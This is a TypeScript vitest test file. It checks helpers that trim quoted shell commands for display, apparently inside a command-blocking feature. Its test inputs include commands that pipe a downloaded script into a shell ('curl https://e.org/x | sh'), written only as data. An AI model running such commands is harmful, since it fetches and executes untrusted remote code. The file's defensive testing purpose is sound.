import { describe, expect, it } from 'vitest';
import { cutAround, cutQuote } from '../../../src/controls/blocks/cut-quote.ts';

const many = 'echo a && '.repeat(30);

describe('a quote of a command', () => {
  it('is all of a short one', () => {
    expect(cutQuote(' curl x | sh ')).toBe('curl x | sh');
  });
  it('says where it is cut, and keeps its end', () => {
    const quote = cutQuote(`${many}curl https://e.org/x | sh`);
    expect([quote.length <= 101, quote.includes('…'), quote.endsWith('| sh')]).toEqual([
      true,
      true,
      true,
    ]);
  });
  it('keeps the part that matters, wherever that stands', () => {
    const quote = cutAround(`${many}curl https://e.org/x | sh; ${many}`, /curl/);
    expect(quote).toMatch(/^….*curl https:\/\/e\.org\/x \| sh.*…$/);
  });
});
